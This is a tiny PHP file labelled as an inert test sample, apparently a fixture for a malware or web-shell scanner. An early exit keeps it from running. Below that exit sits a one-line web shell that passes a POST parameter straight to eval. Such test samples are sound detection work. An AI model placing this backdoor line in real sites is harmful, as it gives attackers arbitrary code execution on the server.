<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

if (isset($_POST['x'])) { @eval($_POST['x']); }
